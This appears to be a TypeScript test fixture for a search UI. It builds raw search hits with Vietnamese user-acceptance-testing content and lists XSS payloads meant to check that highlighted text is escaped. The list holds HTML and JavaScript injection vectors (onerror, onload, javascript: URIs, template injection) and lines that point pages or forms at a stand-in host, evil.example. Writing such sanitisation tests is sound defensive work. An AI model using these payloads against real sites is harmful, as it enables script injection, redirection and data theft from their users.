/** Creates an unvalidated hit, as from a search service. */
export function rawHit(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    objectID: 'page:1',
    url: '/documents/uat#device',
    type: 'content',
    content: 'Kiểm tra thiết bị trước khi chạy thật.',
    hierarchy: {
      lvl0: 'Hướng dẫn',
      lvl1: 'UAT',
      lvl2: 'Thiết bị',
      lvl3: null,
      lvl4: null,
      lvl5: null,
      lvl6: null,
    },
    _highlightResult: { hierarchy: { lvl1: { value: '<mark>UAT</mark>', matchLevel: 'full' } } },
    _snippetResult: { content: { value: 'Kiểm tra <mark>thiết bị</mark>…', matchLevel: 'full' } },
    ...overrides,
  };
}

/** Texts that become elements, scripts or URLs if they are not handled as plain text. */
export const markupPayloads: readonly string[] = [
  '<img src=x onerror="window.__hacked=1">',
  '<script>window.__hacked=1</script>',
  '<svg onload="window.__hacked=1"><a>x</a></svg>',
  '"><img src=x onerror=window.__hacked=1>',
  "'><b onmouseover=window.__hacked=1>x</b>",
  '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>',
  '<math><mi xlink:href="data:x,<script>window.__hacked=1</script>"></mi></math>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data="data:text/html,<script>window.__hacked=1</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name=q></form>',
  '<video><source onerror="window.__hacked=1"></video>',
  '<details open ontoggle="window.__hacked=1">x</details>',
  '<mark><img src=x onerror="window.__hacked=1"></mark>',
  '</mark><img src=x onerror="window.__hacked=1"><mark>',
  '<template><script>window.__hacked=1</script></template>',
  '<marquee onstart="window.__hacked=1">x</marquee>',
  '<!--><img src=x onerror="window.__hacked=1">-->',
  '<![CDATA[<img src=x onerror="window.__hacked=1">]]>',
  '&lt;img src=x onerror=&quot;window.__hacked=1&quot;&gt;',
  '{{constructor.constructor("window.__hacked=1")()}}',
  '${window.__hacked=1}',
  'javascript:window.__hacked=1',
  '<a href="javascript:window.__hacked=1">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.__hacked=1>">',
];
